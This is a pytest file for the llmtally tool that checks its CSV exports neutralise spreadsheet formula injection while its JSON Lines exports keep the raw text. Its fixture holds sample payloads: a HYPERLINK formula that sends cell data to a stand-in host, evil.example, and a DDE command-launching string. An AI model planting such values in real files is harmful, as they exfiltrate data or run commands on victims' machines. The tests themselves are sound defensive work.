"""CSV exports cannot carry spreadsheet formulas (OWASP: a leading quote); JSON Lines keep the text as is."""

from __future__ import annotations

import csv
import io
import json

import pytest

from llmtally import Ledger, Settings
from llmtally.export import neutralise
from tests.support.cli import llmtally
from tests.support.web_seed import ADA, ROOT, Api, event

HOSTILE = {
    "session_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "end_user": "+1+cmd|' /C calc'!A0",
    "error": "-2+3",
    "error_type": "@SUM(1+1)",
    "model": "\tmodel",
    "provider": "-provider",
}


@pytest.fixture
def hostile(api: Api) -> Api:
    with Ledger(api.db.url, settings=Settings(flush_interval_ms=20)) as ledger:
        ledger.record(event("formula-1", ADA, status="failure", **HOSTILE))  # type: ignore[arg-type]
        assert ledger.flush_sync()
    return api


def hostile_row(text: str) -> dict[str, str]:
    [row] = [r for r in csv.DictReader(io.StringIO(text)) if r["litellm_call_id"] == "formula-1"]
    return row


def test_admin_csv_export_neutralises_formulas(hostile: Api) -> None:
    response = hostile.get("/admin/export", ROOT, format="csv")
    assert response.status_code == 200  # type: ignore[attr-defined]
    row = hostile_row(response.text)  # type: ignore[attr-defined]
    assert {column: row[column] for column in HOSTILE} == {column: "'" + value for column, value in HOSTILE.items()}
    assert row["prompt_tokens"] == "100" and row["litellm_call_id"] == "formula-1"  # other cells unchanged


def test_cli_csv_export_neutralises_formulas_and_jsonl_is_unchanged(hostile: Api) -> None:
    result = llmtally("export", "--format", "csv", database_url=hostile.db.url)
    assert result.returncode == 0, result.stderr
    row = hostile_row(result.stdout)
    assert {column: row[column] for column in HOSTILE} == {column: "'" + value for column, value in HOSTILE.items()}
    lines = llmtally("export", "--format", "jsonl", database_url=hostile.db.url).stdout.splitlines()
    [record] = [json.loads(line) for line in lines if '"formula-1"' in line]
    assert {column: record[column] for column in HOSTILE} == HOSTILE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_a_quote(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise(f"a{start}1") == f"a{start}1"
